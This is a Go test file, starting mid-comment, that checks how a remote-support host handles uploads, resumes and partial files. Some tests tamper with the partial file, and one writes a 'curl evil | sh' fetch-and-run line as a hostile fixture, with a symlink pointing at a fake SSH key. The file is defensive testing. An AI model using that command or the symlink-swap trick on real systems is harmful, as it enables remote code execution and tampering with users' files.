// first host's partial files alone, the one being written and the one
// kept for a resume after the technician's connection dropped, and does
// not resume from them when it is sent the same content; it does remove
// what a dead host left. The first host then carries on with both.
func TestLivePartialsSurviveAnotherSession(t *testing.T) {
	home := t.TempDir()
	inbox := filepath.Join(home, "in")
	if err := os.Mkdir(inbox, 0o755); err != nil {
		t.Fatal(err)
	}
	writing := bytes.Repeat([]byte("being written "), 20<<10)
	kept := bytes.Repeat([]byte("kept for a resume "), 20<<10)
	dead := bytes.Repeat([]byte("left by a dead host "), 20<<10)

	dropped := make(chan Progress, 1)
	first, brokerA := serve(t, Config{Root: home, Inbox: inbox, OnProgress: func(p Progress) {
		if p.Finished && p.Name == "kept.bin" {
			dropped <- p
		}
	}}, func() bool { return true })
	dcW, askW, answerW := openFiles(t, brokerA)
	if r := askW(putOf("writing.bin", writing)); r.Type != protocol.FileReady || r.Offset != 0 {
		t.Fatalf("put: %+v", r)
	}
	dcW.Send(writing[:64<<10])
	waitSize(t, partialPath(inbox, writing, 1), 64<<10)
	dcK, askK, _ := openFiles(t, brokerA)
	if r := askK(putOf("kept.bin", kept)); r.Type != protocol.FileReady || r.Offset != 0 {
		t.Fatalf("put: %+v", r)
	}
	dcK.Send(kept[:64<<10])
	waitSize(t, partialPath(inbox, kept, 1), 64<<10)
	dcK.Close() // the technician's connection drops
	select {
	case p := <-dropped:
		if !errors.Is(p.Err, errLeft) {
			t.Fatalf("kept.bin stopped with %v", p.Err)
		}
	case <-time.After(10 * time.Second):
		t.Fatal("the host did not see the connection drop")
	}

	// A host that died since the first one started left a partial file.
	if err := os.WriteFile(partialPath(inbox, dead, 1), dead[:64<<10], 0o600); err != nil {
		t.Fatal(err)
	}
	// A second session starts for the same user; its technician sends
	// the content the first one keeps, and it ends.
	second, brokerB := serve(t, Config{Root: home, Inbox: inbox}, func() bool { return true })
	dcB, askB, answerB := openFiles(t, brokerB)
	r := askB(putOf("copy.bin", kept))
	if r.Type != protocol.FileReady || r.Offset != 0 {
		t.Fatalf("the second session starts the file at %d (%+v), from the first session's partial file; want 0", r.Offset, r)
	}
	sendFrom(t, dcB, answerB, inbox, "copy.bin", kept, 0)
	second.Close()
	if _, err := os.Stat(partialPath(inbox, dead, 1)); err == nil {
		t.Error("the partial file a dead host left stays after the second session ended")
	}
	for _, p := range []string{partialPath(inbox, writing, 1), partialPath(inbox, kept, 1)} {
		if st, err := os.Stat(p); err != nil || st.Size() != 64<<10 {
			t.Fatalf("the first session's %s after the second session: %v", filepath.Base(p), err)
		}
	}

	// The first session carries on with both.
	sendFrom(t, dcW, answerW, inbox, "writing.bin", writing, 64<<10)
	dc, ask, answer := openFiles(t, brokerA)
	r = ask(putOf("kept.bin", kept))
	if r.Type != protocol.FileReady || r.Offset != 64<<10 {
		t.Fatalf("the resume after the dropped connection starts at %d (%+v), want %d", r.Offset, r, 64<<10)
	}
	sendFrom(t, dc, answer, inbox, "kept.bin", kept, r.Offset)
	first.Close()
	if m, _ := filepath.Glob(filepath.Join(inbox, ".tether-*")); len(m) != 0 {
		t.Errorf("partial files left after both sessions ended: %v", m)
	}
}

// TestUploadNameTheDiskRefuses: a name the inbox's file system does not
// take (a colon on a FAT USB stick, valid where the host runs) is refused
// before any of the file is sent, in words that say to rename it, not
// once all of it has arrived.
func TestUploadNameTheDiskRefuses(t *testing.T) {
	inbox := xtest.LinklessDisk(t)
	_, broker := serve(t, Config{Root: inbox, Inbox: inbox}, func() bool { return true })
	_, ask, _ := openFiles(t, broker)
	r := ask(putOf("backup:2024.txt", []byte("the backup")))
	if r.Type != protocol.FileError || r.Code != protocol.FileErrPath || !strings.Contains(r.Message, "does not take the name") || !strings.Contains(r.Message, "Rename the file") {
		t.Fatalf("put of a name FAT refuses: %+v", r)
	}
	if ents, _ := os.ReadDir(inbox); len(ents) != 0 {
		t.Errorf("the refused upload left %v", ents)
	}
	// A name it takes is still taken.
	if r := ask(putOf("backup-2024.txt", []byte("the backup"))); r.Type != protocol.FileReady {
		t.Fatalf("put of a name FAT takes: %+v", r)
	}
}

// TestUploadWithoutHardLinks: on a file system without hard links (FAT on
// a USB stick, some SMB shares) an upload is still saved once all of it
// has arrived, and never over a file: the same name sent twice, with
// different contents, lands as "name.ext" and "name (2).ext", each whole,
// with no partial or empty file left beside them.
func TestUploadWithoutHardLinks(t *testing.T) {
	inbox := xtest.LinklessDisk(t)
	probe := filepath.Join(inbox, "probe")
	if err := os.WriteFile(probe, nil, 0o600); err != nil {
		t.Fatal(err)
	}
	if err := os.Link(probe, probe+"-link"); err == nil {
		t.Fatal("the FAT file system takes hard links: the test proves nothing")
	}
	os.Remove(probe)

	_, broker := serve(t, Config{Root: inbox, Inbox: inbox}, func() bool { return true })
	first := bytes.Repeat([]byte("the first tool "), 10<<10)
	second := bytes.Repeat([]byte("the second, a different tool "), 10<<10)
	for _, tt := range []struct {
		data  []byte
		saved string
	}{{first, "tool.bin"}, {second, "tool (2).bin"}} {
		dc, ask, answer := openFiles(t, broker)
		put := putOf("tool.bin", tt.data)
		if r := ask(put); r.Type != protocol.FileReady || r.Offset != 0 {
			t.Fatalf("put: %+v", r)
		}
		for off := 0; off < len(tt.data); off += 64 << 10 {
			dc.Send(tt.data[off:min(off+64<<10, len(tt.data))])
		}
		r := answer()
		if r.Type != protocol.FileDone || r.Name != tt.saved || r.SHA256 != put.SHA256 {
			t.Fatalf("sending %s: %+v, want it saved as %s with SHA-256 %s", put.Name, r, tt.saved, put.SHA256)
		}
		dc.Close()
	}
	for name, want := range map[string][]byte{"tool.bin": first, "tool (2).bin": second} {
		got, err := os.ReadFile(filepath.Join(inbox, name))
		if err != nil {
			t.Fatal(err)
		}
		if sum, wantSum := sha256.Sum256(got), sha256.Sum256(want); sum != wantSum {
			t.Errorf("%s holds %d bytes with SHA-256 %x, want %d with %x", name, len(got), sum, len(want), wantSum)
		}
	}
	ents, err := os.ReadDir(inbox)
	if err != nil {
		t.Fatal(err)
	}
	var names []string
	for _, e := range ents {
		names = append(names, e.Name())
	}
	if want := []string{"tool (2).bin", "tool.bin"}; !slices.Equal(names, want) {
		t.Errorf("the inbox holds %q, want only %q", names, want)
	}
}

// TestResumeNeverThroughReplacedPartial: a partial file kept for a resume
// whose name was replaced meanwhile by a symbolic link (by whoever else can
// write to the inbox) is not resumed through it: the file the link leads
// to is neither truncated, written nor created, and the upload, sent
// again, is saved whole.
func TestResumeNeverThroughReplacedPartial(t *testing.T) {
	for _, tt := range []struct {
		name   string
		target []byte // nil: the link dangles
	}{
		{"longer file", bytes.Repeat([]byte("the user's own settings\n"), 20<<10)},
		{"shorter file", []byte("the user's own settings\n")},
		{"dangling", nil},
	} {
		t.Run(tt.name, func(t *testing.T) {
			home := t.TempDir()
			inbox := filepath.Join(home, "in")
			users := filepath.Join(home, "users-file")
			if tt.target != nil {
				if err := os.WriteFile(users, tt.target, 0o600); err != nil {
					t.Fatal(err)
				}
			}
			dropped := make(chan struct{}, 1)
			_, broker := serve(t, Config{Root: home, Inbox: inbox, OnProgress: func(p Progress) {
				if p.Finished {
					select {
					case dropped <- struct{}{}:
					default:
					}
				}
			}}, func() bool { return true })
			data := bytes.Repeat([]byte("the technician's tool "), 12<<10)
			dc, ask, _ := openFiles(t, broker)
			if r := ask(putOf("tool.bin", data)); r.Type != protocol.FileReady || r.Offset != 0 {
				t.Fatalf("put: %+v", r)
			}
			dc.Send(data[:64<<10])
			partial := partialPath(inbox, data, 1)
			waitSize(t, partial, 64<<10)
			dc.Close() // kept for a resume
			select {
			case <-dropped:
			case <-time.After(10 * time.Second):
				t.Fatal("the host did not see the connection drop")
			}
			if err := os.Remove(partial); err != nil {
				t.Fatal(err)
			}
			if err := os.Symlink(users, partial); err != nil {
				t.Skipf("no symbolic links here: %v", err)
			}

			dc, ask, answer := openFiles(t, broker)
			r := ask(putOf("tool.bin", data))
			if r.Type == protocol.FileReady {
				sendFrom(t, dc, answer, inbox, "tool.bin", data, r.Offset)
			} else if r.Type != protocol.FileError || r.Code != protocol.FileErrIO {
				t.Fatalf("put through the link: %+v", r)
			}
			got, err := os.ReadFile(users)
			switch {
			case tt.target == nil && err == nil:
				t.Errorf("a file of %d bytes was created through the link", len(got))
			case tt.target != nil && !bytes.Equal(got, tt.target):
				t.Errorf("the user's file was changed through the link: %d bytes, was %d", len(got), len(tt.target))
			}
			if r.Type == protocol.FileReady {
				return
			}
			// Sent again, it is saved whole.
			if r = ask(putOf("tool.bin", data)); r.Type != protocol.FileReady || r.Offset != 0 {
				t.Fatalf("put after the refusal: %+v", r)
			}
			sendFrom(t, dc, answer, inbox, "tool.bin", data, 0)
		})
	}
}

// TestUploadSavesWhatWasWritten: the partial file's name replaced while
// the upload arrives (by whoever else can write to the inbox), by another
// file or a link to one of the user's, is not saved under the verified
// name: the upload fails, and nothing of it is left under that name.
func TestUploadSavesWhatWasWritten(t *testing.T) {
	for _, swap := range []string{"file", "link"} {
		t.Run(swap, func(t *testing.T) {
			home := t.TempDir()
			inbox := filepath.Join(home, "in")
			secret := filepath.Join(home, ".ssh-id")
			os.WriteFile(secret, []byte("PRIVATE KEY"), 0o600)
			_, broker := serve(t, Config{Root: home, Inbox: inbox}, func() bool { return true })
			dc, ask, answer := openFiles(t, broker)
			data := bytes.Repeat([]byte("the technician's tool "), 12<<10)
			if r := ask(putOf("tool.sh", data)); r.Type != protocol.FileReady {
				t.Fatalf("put: %+v", r)
			}
			dc.Send(data[:64<<10])
			partial := partialPath(inbox, data, 1)
			waitSize(t, partial, 64<<10)
			os.Remove(partial)
			if swap == "file" {
				os.WriteFile(partial, []byte("curl evil | sh\n"), 0o644)
			} else {
				os.Symlink(secret, partial)
			}
			for off := 64 << 10; off < len(data); off += 64 << 10 {
				dc.Send(data[off:min(off+64<<10, len(data))])
			}
			if r := answer(); r.Type != protocol.FileError || !strings.Contains(r.Message, "was replaced by another file or a link") {
				t.Errorf("the upload whose partial file was replaced: %+v", r)
			}
			if _, err := os.Lstat(filepath.Join(inbox, "tool.sh")); err == nil {
				got, _ := os.ReadFile(filepath.Join(inbox, "tool.sh"))
				t.Errorf("tool.sh saved with %q", got[:min(len(got), 40)])
			}
		})
	}
}

// TestPartialNameTakenByAPipe: a pipe at the partial file's name (put
// there by whoever else can write to the inbox) is not read as a partial
// upload, which would wait for ever and hold up the channel: the upload
// takes another name.
func TestPartialNameTakenByAPipe(t *testing.T) {
	home := t.TempDir()
	inbox := filepath.Join(home, "in")
	os.Mkdir(inbox, 0o755)
	data := bytes.Repeat([]byte("tool"), 1000)
	if err := syscall.Mkfifo(partialPath(inbox, data, 1), 0o644); err != nil {
		t.Fatal(err)
	}
	_, broker := serve(t, Config{Root: home, Inbox: inbox}, func() bool { return true })
	dc, ask, answer := openFiles(t, broker)
	if r := ask(putOf("tool.bin", data)); r.Type != protocol.FileReady || r.Offset != 0 {
		t.Fatalf("put beside a pipe: %+v", r)
	}
	dc.Send(data)
	if r := answer(); r.Type != protocol.FileDone {
		t.Fatalf("upload beside a pipe: %+v", r)
	}
	if got, err := os.ReadFile(filepath.Join(inbox, "tool.bin")); err != nil || !bytes.Equal(got, data) {
		t.Errorf("tool.bin: %v, %d bytes", err, len(got))
	}
}
